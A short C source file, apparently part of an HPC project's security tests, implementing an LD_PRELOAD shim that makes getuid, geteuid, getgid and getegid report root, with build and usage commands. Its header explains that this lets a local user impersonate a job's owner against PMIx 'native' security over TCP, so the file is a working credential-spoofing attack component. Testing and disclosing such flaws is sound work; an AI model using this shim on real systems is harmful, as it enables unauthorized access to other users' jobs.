/*
 * Copyright (c) 2026 The usnic BTL authors.  All rights reserved.
 *
 * uid_shim: an LD_PRELOAD library with which a process of any user claims
 * to be root to the libraries it runs: getuid, geteuid, getgid and
 * getegid return 0.  The kernel is not fooled (files, signals and sockets
 * still check the real ids); only what a library reports about itself
 * changes.  PMIx's "native" security over TCP sends exactly these values
 * as the client's credential, which the server cannot check (no
 * SO_PEERCRED on a TCP socket), so a local user with this shim passes as
 * the job's owner (test/attack/pmix_thief.c, run-pmix-attacks.sh).
 *
 *   cc -shared -fPIC -o libuid_shim.so uid_shim.c
 *   LD_PRELOAD=/path/libuid_shim.so PROGRAM...
 *
 * Needs nothing but libc.  Prints nothing.
 */
#include <sys/types.h>
#include <unistd.h>

uid_t getuid(void)
{
    return 0;
}

uid_t geteuid(void)
{
    return 0;
}

gid_t getgid(void)
{
    return 0;
}

gid_t getegid(void)
{
    return 0;
}
